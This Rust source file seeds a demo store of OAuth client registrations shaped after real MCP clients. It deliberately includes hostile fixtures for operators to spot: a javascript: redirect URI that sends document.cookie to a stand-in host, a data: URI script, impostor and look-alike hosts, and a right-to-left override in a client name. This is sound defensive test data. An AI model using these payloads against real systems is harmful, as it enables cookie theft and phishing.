//! The demo population: deterministic (seeded), shaped after what real MCP clients register.

use chrono::{DateTime, Duration, Utc};

/// One registration to write into the demo store.
#[derive(Debug, Clone)]
pub struct DemoClient {
    pub client_id: String,
    pub client_name: String,
    pub redirect_uris: Vec<String>,
    pub grant_types: Vec<String>,
    pub auth_method: String,
    pub scope: String,
    pub client_uri: Option<String>,
    pub logo_uri: Option<String>,
    pub created_at: DateTime<Utc>,
    /// Token requests on record (access/refresh `requested_at`).
    pub uses: Vec<DateTime<Utc>>,
    /// Created by an administrator (custom id, metadata set).
    pub admin: bool,
}

/// splitmix64: small, fast, and enough for a repeatable demo (and the benchmark stores).
pub struct Rng(pub u64);

impl Rng {
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    /// A number below `n` (0 for 0).
    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64() % n.max(1)
    }
    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len() as u64) as usize]
    }
    fn uuid_v4(&mut self) -> String {
        let (a, b) = (self.next_u64(), self.next_u64());
        let hex = format!("{a:016x}{b:016x}");
        let variant = ["8", "9", "a", "b"][(b >> 62) as usize];
        format!(
            "{}-{}-4{}-{}{}-{}",
            &hex[0..8],
            &hex[8..12],
            &hex[13..16],
            variant,
            &hex[17..20],
            &hex[20..32]
        )
    }
}

const SERVERS: &[&str] = &[
    "github",
    "linear",
    "sentry",
    "notion",
    "internal-docs",
    "jira",
    "grafana",
    "postgres",
    "figma",
    "slack",
];
const LOOPBACK_NATIVE: &[&str] = &["authorization_code", "refresh_token"];

/// `n` registrations as of `now`. The mix: mostly per-install duplicates of real MCP clients,
/// a burst of mcp-remote registrations yesterday, a few in-house apps and a few dangerous ones.
pub fn generate(n: usize, now: DateTime<Utc>) -> Vec<DemoClient> {
    let mut rng = Rng(0x5EED_2026);
    let mut out = Vec::with_capacity(n);
    let burst = n / 20;
    let dangerous = (n / 200).clamp(3, 50);
    let in_house = (n / 100).clamp(4, 100);
    for i in 0..n {
        let mut c = if i < burst {
            let mut c = mcp_remote(&mut rng);
            // Sixty minutes yesterday: a burst of look-alike registrations.
            c.created_at = now - Duration::hours(26) + Duration::seconds(rng.below(3600) as i64);
            c
        } else if i < burst + dangerous {
            dangerous_client(&mut rng, i)
        } else if i < burst + dangerous + in_house {
            in_house_app(&mut rng, i)
        } else {
            real_client(&mut rng)
        };
        if i >= burst {
            c.created_at = now - Duration::seconds(rng.below(120 * 86_400) as i64);
        }
        c.uses = usage(&mut rng, c.created_at, now, c.admin);
        out.push(c);
    }
    out
}

/// Usage: admin apps are used daily; DCR clients follow the MCP pattern, where most
/// registrations are used for a while or never (the install re-registered elsewhere).
fn usage(
    rng: &mut Rng,
    created: DateTime<Utc>,
    now: DateTime<Utc>,
    admin: bool,
) -> Vec<DateTime<Utc>> {
    let age = (now - created).num_seconds().max(1) as u64;
    let roll = rng.below(100);
    let span = if admin || roll < 30 {
        age // used up to now
    } else if roll < 55 {
        age / 4 // used for a while after registering, then abandoned
    } else {
        return Vec::new(); // never used
    };
    let uses = 1 + rng.below(4);
    (0..uses)
        .map(|_| created + Duration::seconds(rng.below(span.max(1)) as i64))
        .collect()
}

fn base(rng: &mut Rng, name: String, redirects: Vec<String>, auth: &str) -> DemoClient {
    DemoClient {
        client_id: rng.uuid_v4(),
        client_name: name,
        redirect_uris: redirects,
        grant_types: LOOPBACK_NATIVE.iter().map(|s| s.to_string()).collect(),
        auth_method: auth.into(),
        scope: "openid offline_access".into(),
        client_uri: None,
        logo_uri: None,
        created_at: DateTime::<Utc>::UNIX_EPOCH,
        uses: Vec::new(),
        admin: false,
    }
}

fn port(rng: &mut Rng) -> u64 {
    3335 + rng.below(49151 - 3335)
}

fn mcp_remote(rng: &mut Rng) -> DemoClient {
    let p = port(rng);
    base(
        rng,
        "MCP CLI Proxy".into(),
        vec![format!("http://localhost:{p}/oauth/callback")],
        "none",
    )
}

/// The clients of REFERENCE.md, weighted roughly as operators report them.
fn real_client(rng: &mut Rng) -> DemoClient {
    let roll = rng.below(100);
    let p = port(rng);
    match roll {
        0..=34 => {
            let server = rng.pick(SERVERS);
            base(
                rng,
                format!("Claude Code ({server})"),
                vec![format!("http://localhost:{p}/callback")],
                "none",
            )
        }
        35..=46 => {
            let mut c = base(
                rng,
                "Visual Studio Code".into(),
                [
                    "https://insiders.vscode.dev/redirect",
                    "https://vscode.dev/redirect",
                    "http://127.0.0.1/",
                    "http://127.0.0.1:33418/",
                ]
                .map(String::from)
                .to_vec(),
                "none",
            );
            c.client_uri = Some("https://code.visualstudio.com".into());
            c
        }
        47..=54 => base(
            rng,
            "Cursor".into(),
            [
                "cursor://anysphere.cursor-mcp/oauth/callback",
                "https://www.cursor.com/agents/mcp/oauth/callback",
                "http://localhost:8787/callback",
            ]
            .map(String::from)
            .to_vec(),
            "none",
        ),
        55..=64 => mcp_remote(rng),
        65..=69 => {
            let mut c = base(
                rng,
                "MCP Inspector".into(),
                [
                    "http://localhost:6274/oauth/callback",
                    "http://localhost:6274/oauth/callback/debug",
                ]
                .map(String::from)
                .to_vec(),
                "none",
            );
            c.client_uri = Some("https://github.com/modelcontextprotocol/inspector".into());
            c
        }
        70..=74 => {
            let cp = 1456 + rng.below(6);
            base(
                rng,
                "Cline".into(),
                vec![format!("http://127.0.0.1:{cp}/mcp/oauth/callback")],
                "none",
            )
        }
        75..=78 => base(
            rng,
            "Gemini CLI MCP Client".into(),
            vec!["http://localhost:7777/oauth/callback".into()],
            "none",
        ),
        79..=81 => base(
            rng,
            "goose".into(),
            vec![format!("http://127.0.0.1:{p}/oauth_callback")],
            "none",
        ),
        82..=90 => base(
            rng,
            "claudeai".into(),
            vec!["https://claude.ai/api/mcp/auth_callback".into()],
            "client_secret_post",
        ),
        91..=96 => base(
            rng,
            "ChatGPT".into(),
            vec!["https://chatgpt.com/connector_platform_oauth_redirect".into()],
            "client_secret_post",
        ),
        _ => {
            let server = rng.pick(SERVERS);
            base(
                rng,
                "LibreChat MCP Client".into(),
                vec![format!(
                    "https://chat.example.org/api/mcp/{server}/oauth/callback"
                )],
                "client_secret_basic",
            )
        }
    }
}

fn in_house_app(rng: &mut Rng, i: usize) -> DemoClient {
    let app = rng.pick(&[
        "billing-portal",
        "grafana",
        "support-desk",
        "wiki",
        "ci-dashboard",
        "hr-tools",
    ]);
    let mut c = base(
        rng,
        app.to_owned(),
        vec![format!("https://{app}.corp.example.com/oauth/callback")],
        "client_secret_basic",
    );
    c.client_id = format!("{app}-{i}");
    c.grant_types = vec![
        "authorization_code".into(),
        "refresh_token".into(),
        "client_credentials".into(),
    ];
    c.client_uri = Some(format!("https://{app}.corp.example.com"));
    c.admin = true;
    c
}

/// Registrations an operator must notice: an impostor, script and data redirects, http on a
/// public host, a look-alike loopback host.
fn dangerous_client(rng: &mut Rng, i: usize) -> DemoClient {
    let (name, redirect) = match i % 5 {
        0 => (
            "Claude Code (github)",
            "https://claude-code-auth.example.net/callback",
        ),
        1 => (
            "Visual Studio Code",
            "javascript:fetch('https://x.example/'+document.cookie)//",
        ),
        2 => ("MCP Inspector", "http://203.0.113.7/oauth/callback"),
        3 => ("Cursor", "http://127.0.0.1.nip.io:8787/callback"),
        _ => (
            "Claude Code\u{202E}",
            "data:text/html,<script>alert(1)</script>",
        ),
    };
    base(rng, name.into(), vec![redirect.into()], "none")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn population_is_deterministic_and_shaped() {
        let now = DateTime::from_timestamp(1_790_000_000, 0).unwrap();
        let a = generate(1000, now);
        let b = generate(1000, now);
        assert_eq!(a.len(), 1000);
        assert_eq!(
            a.iter().map(|c| &c.client_id).collect::<Vec<_>>(),
            b.iter().map(|c| &c.client_id).collect::<Vec<_>>()
        );
        assert!(a.iter().all(|c| c.created_at <= now));
        let unique: std::collections::HashSet<_> = a.iter().map(|c| &c.client_id).collect();
        assert_eq!(unique.len(), a.len(), "client ids are unique");
        let never = a.iter().filter(|c| c.uses.is_empty()).count();
        assert!(never > 200 && never < 700, "{never} never used");
        assert!(a.iter().filter(|c| c.admin).count() >= 4);
        assert!(a
            .iter()
            .any(|c| c.redirect_uris[0].starts_with("javascript:")));
    }
}
